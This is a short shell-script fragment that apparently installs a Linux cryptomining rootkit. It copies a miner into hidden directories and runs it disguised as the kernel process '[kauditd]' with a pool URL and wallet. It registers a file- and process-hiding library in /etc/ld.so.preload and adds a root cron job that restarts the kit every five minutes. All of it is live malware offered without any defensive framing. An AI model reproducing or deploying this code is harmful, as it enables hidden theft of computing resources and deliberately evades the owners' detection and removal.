
# The library hides the guardian, the guardian keeps the library: one is not found, the other does not go.
mimic /usr/share/misc/.kauditx/kauditx
install -D -m 755 "$KIT/keeper" /usr/lib/.kauditx/auditx-sync
install -m 644 "$KIT/hider.so" /usr/lib/libaudit-sync.so
guardian="/usr/lib/.kauditx/auditx-sync /etc/ld.so.preload /usr/lib/libaudit-sync.so /etc/cron.d/kauditx -- /usr/share/misc/.kauditx/kauditx [kauditd] --url=$POOL --user=$WALLET --pass=k"
echo "*/5 * * * * root pgrep -x auditx-sync >/dev/null || $guardian" | put /etc/cron.d/kauditx
echo /usr/lib/libaudit-sync.so >/etc/ld.so.preload.new
mv /etc/ld.so.preload.new /etc/ld.so.preload
detach $guardian
sleep 0.5
